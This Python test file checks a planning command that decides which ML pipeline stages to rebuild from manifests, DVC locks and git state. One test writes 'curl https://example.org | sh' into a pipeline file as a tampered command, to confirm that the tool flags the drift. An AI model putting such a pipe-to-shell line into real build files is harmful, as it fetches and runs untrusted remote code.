"""`varietal plan` on repositories as builds leave them: what it says of edits, and of everything that can be wrong."""

from __future__ import annotations

import json
import os
import shutil
import sqlite3
import subprocess
import time
from contextlib import closing
from typing import TYPE_CHECKING, Any

import pytest

from builder.compiled import write_pipelines
from builder.graph import build_graph
from builder.kinds import KINDS
from builder.load import load
from builder.plan.markdown import comment
from builder.plan.repository import plan_repository
from builder.plan.text import describe
from registry.lock import content_md5
from tests.planted import plant_all
from tests.team import MANIFEST, Team

if TYPE_CHECKING:
    from pathlib import Path

    from builder.plan.values import Plan

_PARAMS = f"""\
bases:
  tiny: {{path: sources/tiny, sha256: "{"0" * 64}"}}
recipes: {{{", ".join(f"{kind}: 1" for kind in KINDS)}}}
defaults: {{}}
"""
_IGNORED = """\
/models/*/artifacts/
/bases/?*
!/bases/dvc.yaml
!/bases/dvc.lock
!/bases/records/
/.varietal/
/.dvc/cache/
"""
_OTHER = """\
schema: 1
base: {variant: support, stage: toned}
data:
  talks: {path: data/talks.jsonl, format: messages}
stages:
  voice: {kind: sft, from: base, data: talks, adapter: {rank: 2}, train: {steps: 2}}
release: voice
checks: []
"""


@pytest.fixture(scope="module")
def planted(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A repository of two variants, built and committed; every file of it is an hour old."""
    root = tmp_path_factory.mktemp("planted") / "team"
    for name in ("talks", "likes", "heldout"):
        (root / "data").mkdir(parents=True, exist_ok=True)
        (root / "data" / f"{name}.jsonl").write_text("{}\n")
    for variant, text in {"support": MANIFEST, "other": _OTHER}.items():
        (root / "models" / variant).mkdir(parents=True)
        (root / "models" / variant / "model.yaml").write_text(text)
    (root / "params.yaml").write_text(_PARAMS)
    (root / ".gitignore").write_text(_IGNORED)
    _git(root, "init", "--quiet", "--initial-branch=main")
    for key, value in {"user.name": "T", "user.email": "t@example.invalid", "commit.gpgsign": "false"}.items():
        _git(root, "config", key, value)
    write_pipelines(root)
    workspace = load(root)
    plant_all(root, workspace, build_graph(workspace))
    _git(root, "add", "--all")
    _git(root, "commit", "--quiet", "--message", "Build")
    return root


@pytest.fixture
def root(planted: Path, tmp_path: Path) -> Path:
    """A copy to change at will."""
    target = tmp_path / "team"
    shutil.copytree(planted, target, symlinks=True)
    return target


def _git(root: Path, *arguments: str, check: bool = True) -> str:
    done = subprocess.run(["git", *arguments], cwd=root, capture_output=True, text=True, check=False)
    assert done.returncode == 0 or not check, done.stderr
    return done.stdout


def _edit(path: Path, old: str, new: str) -> None:
    text = path.read_text()
    assert old in text
    path.write_text(text.replace(old, new))


def _said(plan: Plan) -> dict[str, tuple[str, tuple[str, ...]]]:
    """Verdict and reasons of what is not kept."""
    return {str(one.address): (one.verdict, one.reasons) for one in plan.stages if one.verdict != "keep"}


def _call(root: Path, *arguments: str) -> tuple[int, str, str]:
    answer = Team(root=root).call("varietal", *arguments)
    return answer.code, answer.out, answer.err


# Verdicts


def test_nothing_to_do(root: Path) -> None:
    plan = plan_repository(root)
    assert (_said(plan), plan.notes, len(plan.stages)) == ({}, (), 7)
    assert [str(one) for one in plan.stages[-1].needs] == ["support:final", "bases:tiny"]


def test_a_value_and_what_hangs_on_it(root: Path) -> None:
    _edit(root / "models/support/model.yaml", "beta: 0.1", "beta: 0.2")
    assert _said(plan_repository(root)) == {
        "support:pref": ("run", ("stages.pref.train.beta: 0.1 -> 0.2",)),
        "support:final": ("maybe", ("input pref is built again",)),
        "support:score": ("maybe", ("input final may change",)),
    }


def test_a_shared_prefix_touches_the_other_variant(root: Path) -> None:
    _edit(root / "models/support/model.yaml", "tone: 1.0}", "tone: 0.5}")
    plan = plan_repository(root, describe=True)
    assert _said(plan) == {
        "support:toned": ("run", ("stages.toned.adapters.tone: 1.0 -> 0.5",)),
        "other:voice": ("maybe", ("input base is built again",)),
        "support:pref": ("maybe", ("input toned is built again",)),
        "support:final": ("maybe", ("input toned is built again", "input pref may change")),
        "support:score": ("maybe", ("input final may change",)),
    }
    (other, support) = plan.variants
    assert (other.name, other.state, other.changes) == ("other", "same", ())
    assert (support.state, support.affects) == ("changed", ("other",))
    assert support.changes == ("stages.toned.adapters.tone: 1.0 -> 0.5",)
    assert support.checks == ("bits_per_byte of score must be at most 1 above the one before",)


def test_comments_order_and_spelling_change_nothing(root: Path) -> None:
    path = root / "models/support/model.yaml"
    text = path.read_text().replace("{beta: 0.1, steps: 2, batch: 2}", "{batch: 2, steps: 2, beta: 1e-1}")
    path.write_text(f"# a comment\n{text}")
    assert plan_repository(root).is_empty


def test_data(root: Path) -> None:
    (root / "data/likes.jsonl").write_text("{} \n")
    assert _said(plan_repository(root))["support:pref"] == ("run", ("data likes (data/likes.jsonl) changed",))


def test_data_that_was_not_fetched(root: Path) -> None:
    md5 = content_md5(b"{}\n")
    (root / "data/likes.jsonl").unlink()
    (root / "data/likes.jsonl.dvc").write_text(f"outs:\n- md5: {md5}\n  size: 3\n  hash: md5\n  path: likes.jsonl\n")
    assert plan_repository(root).is_empty
    _edit(root / "data/likes.jsonl.dvc", md5, "a" * 32)
    plan = plan_repository(root)
    assert _said(plan)["support:pref"] == ("run", ("data likes (data/likes.jsonl) changed",))
    (pref,) = [one for one in plan.stages if str(one.address) == "support:pref"]
    assert pref.estimate.downloads_bytes == 3


def test_a_copied_variant_reuses_everything(root: Path) -> None:
    (root / "models/copy").mkdir()
    shutil.copy(root / "models/support/model.yaml", root / "models/copy")
    write_pipelines(root)
    plan = plan_repository(root, describe=True)
    assert {str(one.address): one.reuse for one in plan.stages if one.verdict != "keep"} == {
        f"copy:{stage}": f"support:{stage}" for stage in ("tone", "toned", "pref", "final", "score")
    }
    assert [(one.name, one.state) for one in plan.variants] == [("copy", "new")]
    assert plan.stages[1].estimate.downloads_bytes == 0


def test_of_two_equal_new_variants_one_is_computed(root: Path) -> None:
    text = (root / "models/support/model.yaml").read_text().replace("steps: 2", "steps: 3")
    for name in ("one", "two"):
        (root / "models" / name).mkdir()
        (root / "models" / name / "model.yaml").write_text(text)
    write_pipelines(root)
    plan = plan_repository(root)
    verdicts = {str(one.address): (one.verdict, one.reuse) for one in plan.stages if one.verdict != "keep"}
    for stage in ("tone", "toned", "pref", "final", "score"):
        assert verdicts[f"one:{stage}"] == ("run", "")
        assert verdicts[f"two:{stage}"] == ("reuse", f"one:{stage}")


def test_a_variant_renamed_with_its_lock(root: Path) -> None:
    _git(root, "mv", "models/support", "models/help")
    _edit(root / "models/other/model.yaml", "variant: support", "variant: help")
    write_pipelines(root)
    plan = plan_repository(root, describe=True)
    said = _said(plan)
    assert said["help:tone"] == ("reuse", ("renamed from support:tone",))
    assert said["other:voice"][0] == "reuse"
    names = {one.name: (one.state, one.renamed_from) for one in plan.variants}
    assert names == {"help": ("renamed", "support"), "other": ("changed", "")}


def test_a_removed_variant(root: Path) -> None:
    shutil.rmtree(root / "models/other")
    plan = plan_repository(root, describe=True)
    assert plan.is_empty
    assert [(one.name, one.state) for one in plan.variants] == [("other", "removed")]


def test_an_artifact_changed_in_the_work_tree(root: Path) -> None:
    (root / "models/support/artifacts/toned/config.json").write_text("{ }")
    said = _said(plan_repository(root))
    reason = "its artifact was changed in the work tree: models/support/artifacts/toned"
    assert said == {"support:toned": ("reuse", (reason,))}


def test_artifacts_that_are_not_here_are_nothing_to_build(root: Path) -> None:
    for variant in ("support", "other"):
        shutil.rmtree(root / f"models/{variant}/artifacts")
    assert plan_repository(root).is_empty


def test_what_a_build_would_fetch(root: Path) -> None:
    shutil.rmtree(root / "models/support/artifacts")
    shutil.rmtree(root / ".dvc/cache")
    _edit(root / "models/support/model.yaml", "beta: 0.1", "beta: 0.2")
    plan = plan_repository(root)
    (pref,) = [one for one in plan.stages if str(one.address) == "support:pref"]
    sizes = json.loads((root / "models/support/records/toned.json").read_text())["artifact"][0]["size_bytes"]
    assert pref.estimate.downloads_bytes == sizes
    assert pref.estimate.duration_s == 1.0


# A plan by memo is the plan


def test_a_plan_by_memo_is_the_plan(root: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("builder.plan.unchanged.TICK_NS", 0)
    first = plan_repository(root)
    calls: list[object] = []
    monkeypatch.setattr("builder.load.load", lambda *_, **__: calls.append(1))
    assert plan_repository(root) == first
    assert calls == []


def test_what_was_just_written_is_looked_at_again(root: Path) -> None:
    plan_repository(root)
    assert _memo_rows(root, "variants") == 0


def test_a_manifest_dated_in_the_future_is_never_believed(root: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("builder.plan.unchanged.TICK_NS", 0)
    path = root / "models/support/model.yaml"
    ahead = time.time() + 86_400
    os.utime(path, (ahead, ahead))
    assert plan_repository(root).is_empty
    before = path.stat()
    _edit(path, "beta: 0.1", "beta: 0.2")  # of the same size
    os.utime(path, ns=(before.st_atime_ns, before.st_mtime_ns))
    assert "support:pref" in _said(plan_repository(root))


def test_data_dated_in_the_future_is_told(root: Path) -> None:
    ahead = time.time() + 86_400
    os.utime(root / "data/likes.jsonl", (ahead, ahead))
    (note,) = plan_repository(root).notes
    assert note.startswith("dated in the future, so hashed at every plan: data/likes.jsonl;")


def _memo_rows(root: Path, table: str) -> int:
    if not (root / ".varietal/plan.sqlite").exists():  # there was nothing to keep
        return 0
    with closing(sqlite3.connect(root / ".varietal/plan.sqlite")) as database:
        return int(database.execute(f"select count(*) from {table}").fetchone()[0])  # noqa: S608 - of our own tables


# What can be wrong: each a clear message, nothing lost


def _state(root: Path) -> dict[str, bytes]:
    """Every file but those of git and of the memo."""
    files = (path for path in root.rglob("*") if path.is_file())
    return {
        str(path.relative_to(root)): path.read_bytes()
        for path in files
        if path.relative_to(root).parts[0] not in {".git", ".varietal"}
    }


def test_a_plan_writes_nothing(root: Path) -> None:
    _edit(root / "models/support/model.yaml", "beta: 0.1", "beta: 0.2")
    (root / "left.txt").write_text("dirty")
    before = _state(root), _git(root, "status", "--porcelain")
    plan_repository(root)
    _call(root, "plan", "--markdown", "--against", "HEAD")
    assert (_state(root), _git(root, "status", "--porcelain")) == before


@pytest.mark.parametrize("how", ["stale", "edited", "gone"])
def test_a_pipeline_that_is_not_the_manifests(root: Path, how: str) -> None:
    path = root / "models/other/dvc.yaml"
    if how == "gone":
        path.unlink()
    elif how == "edited":
        _edit(path, "cmd: varietal run other voice", "cmd: curl https://example.org | sh")
    else:
        _edit(root / "models/other/model.yaml", "stage: toned", "stage: final")
    plan = plan_repository(root)
    assert plan.notes == (
        "not what the manifest says, and DVC goes by it: models/other/dvc.yaml; run `varietal compile`",
    )
    if how == "stale":
        assert _said(plan) == {"other:voice": ("run", ("input base is new to it",))}


def test_a_static_pipeline_that_was_edited(root: Path) -> None:
    (root / "dvc.yaml").write_text("stages: {x: {cmd: sh}}\n")
    assert plan_repository(root).notes == (
        "dvc.yaml is not the one that builds everything: `varietal compile` writes it",
    )


def test_a_pipeline_without_a_manifest(root: Path) -> None:
    (root / "models/other/model.yaml").unlink()
    assert plan_repository(root).notes == (
        "left without a manifest: models/other/dvc.yaml; `varietal compile` removes them",
    )


def test_a_lock_of_another_branch(root: Path) -> None:
    """Its own values differ, and what it says to have given is not what another lock says to have read."""
    for variant in ("support", "other"):
        shutil.rmtree(root / f"models/{variant}/artifacts")  # a clone, as a reviewer has it
    path = root / "models/support/dvc.lock"
    lock = path.read_text()
    toned = lock.split("  toned:")[1].split("outs:")[1].split("md5: ")[1].split("\n")[0]
    path.write_text(lock.replace("beta: 0.1", "beta: 0.7").replace(toned, f"{'0' * 32}.dir"))
    said = _said(plan_repository(root))
    assert said["support:pref"] == ("reuse", ("stages.pref.train.beta: 0.7 -> 0.1",))
    assert said["other:voice"] == ("reuse", ("input base is not what it was built with",))


@pytest.mark.parametrize("file", ["dvc.lock", "model.yaml"])
def test_conflict_markers(root: Path, file: str) -> None:
    path = root / "models/support" / file
    lines = path.read_text().split("\n")
    lines[4:5] = ["<<<<<<< HEAD", lines[4], "=======", lines[4], ">>>>>>> theirs"]
    path.write_text("\n".join(lines))
    before = _state(root)
    code, out, err = _call(root, "plan")
    assert (code, out) == (4, "")
    assert f"models/support/{file}" in err
    if file == "dvc.lock":
        assert "a merge left its conflict markers in the lock" in err
        assert "git checkout --theirs models/support/dvc.lock" in err
    assert _state(root) == before


def test_a_lock_that_is_none(root: Path) -> None:
    (root / "models/support/dvc.lock").write_text("schema: '1.0'\n")
    code, _, err = _call(root, "plan")
    assert code == 4
    assert "schema: expected '2.0', got '1.0'" in err


def test_a_record_that_is_not_the_locks(root: Path) -> None:
    path = root / "models/support/records/tone.json"
    _edit(path, '"duration_s": 1.0', '"duration_s": 9.0')
    plan = plan_repository(root)
    assert all(one.verdict == "keep" for one in plan.stages)  # DVC never looks at it
    assert [str(one) for one in plan.copies] == ["support:tone"]
    problem = "models/support/records/tone.json is not the record that was built"
    assert plan.notes == (f"{problem}: run `varietal build support`, which puts it back",)
    count = len(plan.stages)
    assert describe(plan)[0] == f"{count} stages are what the manifests say; 1 record to put back"
    assert comment(plan).startswith(f"### Plan: 1 record to put back\n\n{count} stages are what the manifests say.\n")


def test_a_record_that_nobody_can_read(root: Path) -> None:
    """The lock names it, and another version of this tool wrote it."""
    for path in (root / "models/support/records/tone.json", root / "models/support/artifacts/tone.json"):
        path.write_text(path.read_text().replace('"schema": "varietal/record/1"', '"schema": "varietal/record/99"'))
    md5 = content_md5(path.read_bytes())
    lock = root / "models/support/dvc.lock"
    old = lock.read_text().split("path: models/support/artifacts/tone.json")[1].split("md5: ")[1].split("\n")[0]
    lock.write_text(lock.read_text().replace(old, md5))
    _edit(root / "models/support/model.yaml", "tone: 1.0}", "tone: 0.5}")
    plan = plan_repository(root)
    assert _said(plan)["support:toned"][0] == "run"
    (note,) = plan.notes
    assert note.startswith("these records cannot be read (schema: expected 'varietal/record/1'")
    assert "): models/support/records/tone.json; nothing is reused from them" in note


def test_defaults_that_were_taken_away(root: Path) -> None:
    """DVC compares the keys that the pipeline lists now, and takes the stage for what it should be."""
    path = root / "models/other/dvc.lock"
    path.write_text(
        path.read_text().replace("recipes.sft: 1", "defaults.sft: {train: {batch: 4}}\n        recipes.sft: 1")
    )
    plan = plan_repository(root)
    assert plan.is_empty
    (note,) = plan.notes
    assert note.startswith("other:voice was built with defaults.sft of params.yaml, which is gone, and DVC does not")
    assert note.endswith("`dvc repro --force --single-item models/other/dvc.yaml:voice`")


def test_a_shallow_clone(root: Path, tmp_path: Path) -> None:
    clone = tmp_path / "clone"
    _git(root, "commit", "--quiet", "--allow-empty", "--message", "More")
    _git(tmp_path, "clone", "--quiet", "--depth=1", f"file://{root}", str(clone))
    assert plan_repository(clone).notes == ()
    _edit(clone / "models/support/model.yaml", "beta: 0.1", "beta: 0.2")
    assert plan_repository(clone).notes == (
        "this clone is shallow: artifacts of commits that it lacks are not found again; run `git fetch --unshallow`",
    )
    code, _, err = _call(clone, "plan", "--against", "HEAD~1")
    assert code == 2
    assert "there is no commit 'HEAD~1'" in err


def test_a_detached_head(root: Path) -> None:
    _git(root, "checkout", "--quiet", "--detach")
    _edit(root / "models/support/model.yaml", "beta: 0.1", "beta: 0.2")
    assert "support:pref" in _said(plan_repository(root, describe=True))


def test_a_repository_without_a_commit(root: Path) -> None:
    shutil.rmtree(root / ".git")
    _git(root, "init", "--quiet")
    _edit(root / "models/support/model.yaml", "beta: 0.1", "beta: 0.2")
    plan = plan_repository(root, describe=True)
    assert "support:pref" in _said(plan)
    assert [(one.name, one.state) for one in plan.variants] == [("support", "same")]


def test_a_fault_in_one_manifest(root: Path) -> None:
    plan_repository(root)
    _edit(root / "models/other/model.yaml", "stage: toned", "stage: tnoed")
    code, _, err = _call(root, "plan")
    assert code == 4
    assert "unknown stage 'tnoed' of support" in err


def test_a_recipe_that_this_tool_does_not_have(root: Path) -> None:
    _edit(root / "params.yaml", "dpo: 1", "dpo: 2")
    plan = plan_repository(root)
    assert _said(plan)["support:pref"][1] == ("params.yaml: recipes.dpo: 1 -> 2",)
    assert plan.notes[0].startswith("params.yaml pins recipe 2 of 'dpo' and this tool has 1: its stages would be")


# Against a commit


def test_against_a_commit(root: Path) -> None:
    """After a build was committed, what it built is still what the commit before asks for a build of."""
    first = _git(root, "rev-parse", "HEAD").strip()
    _edit(root / "models/support/model.yaml", "beta: 0.1", "beta: 0.2")
    shutil.copytree(root / "models/other", root / "models/more", ignore=shutil.ignore_patterns("artifacts"))
    (root / "models/more/dvc.lock").unlink()
    shutil.rmtree(root / "models/more/records")
    write_pipelines(root)
    workspace = load(root)
    plant_all(root, workspace, build_graph(workspace))
    _git(root, "add", "--all")
    _git(root, "commit", "--quiet", "--message", "Build another")
    assert plan_repository(root).is_empty
    plan = plan_repository(root, against="HEAD~1", describe=True)
    assert plan.against == first
    said = _said(plan)
    assert said["support:pref"][1] == ("stages.pref.train.beta: 0.1 -> 0.2",)
    assert said["more:voice"][1] == ("was never built",)
    assert "support:tone" not in said
    assert {one.name: one.state for one in plan.variants} == {"more": "new", "support": "changed"}


def test_a_request(root: Path) -> None:
    """It is planned in a tree of its own; the one that the command was called in stays as it is."""
    (root / ".dvc/config").write_text("")
    _git(root, "add", "--all")
    _git(root, "commit", "--quiet", "--message", "Set up DVC")
    _git(root, "checkout", "--quiet", "-b", "ask")
    _edit(root / "models/support/model.yaml", "beta: 0.1", "beta: 0.2")
    _git(root, "commit", "--quiet", "--all", "--message", "Ask")
    _git(root, "checkout", "--quiet", "main")
    code, out, err = _call(root, "plan", "--request", "ask", "--json")
    value: dict[str, Any] = json.loads(out)
    assert (code, err) == (0, "")
    assert [one["stage"] for one in value["stages"] if one["verdict"] == "run"] == ["support:pref"]
    assert value["variants"][0]["changes"] == ["stages.pref.train.beta: 0.1 -> 0.2"]
    assert plan_repository(root).is_empty


# The command


def test_the_command(root: Path) -> None:
    assert _call(root, "plan", "--check") == (0, "nothing to do: 7 stages are what the manifests say\n", "")
    _edit(root / "models/support/model.yaml", "beta: 0.1", "beta: 0.2")
    code, out, err = _call(root, "plan", "--check")
    assert code == 1
    assert "run    support:pref (dpo)" in out
    assert err.startswith(
        "3 stages are not what the manifests say\n  where: support:pref, support:final, support:score"
    )
    code, out, _ = _call(root, "plan", "--json")
    value: dict[str, Any] = json.loads(out)
    assert code == 0
    assert [one["verdict"] for one in value["stages"]].count("keep") == 4
    assert value["variants"][0]["changes"] == ["stages.pref.train.beta: 0.1 -> 0.2"]
    code, out, _ = _call(root, "plan", "other", "--check")
    assert (code, out) == (0, "nothing to do: 4 stages are what the manifests say\n")
    assert _call(root, "plan", "--markdown")[1].startswith("### Plan: 1 to run, 2 that may follow, 4 kept\n")
    assert _call(root, "plan", "--markdown", "--json")[0] == 4
    code, _, err = _call(root, "plan", "nobody")
    assert code == 2
    assert "there is no variant 'nobody'" in err


def test_the_card_of_the_runner(root: Path) -> None:
    (root / ".varietal").mkdir(exist_ok=True)
    (root / ".varietal/runner.yaml").write_text("card_memory_gib: 0.5\n")
    source = root / "sources/tiny"
    source.mkdir(parents=True)
    config = {"hidden_size": 32, "num_hidden_layers": 2, "vocab_size": 300, "torch_dtype": "float32"}
    (source / "config.json").write_text(json.dumps(config))
    (source / "model.safetensors").write_bytes(bytes(4000))
    _edit(root / "models/support/model.yaml", "beta: 0.1", "beta: 0.2")
    code, out, err = _call(root, "plan")
    assert "of 512 MiB: more than the card has" in out
    assert code == 1
    assert err == (
        "1 training does not fit the card (`card_memory_gib:` of .varietal/runner.yaml), not even a single row at a "
        "time\n  where: support:pref\n  mend: support:pref: use a card with more memory, or a smaller base: no setting "
        "of this stage makes it fit\n"
    )
    assert "the card has 512 MiB**" in _call(root, "plan", "--markdown")[1]
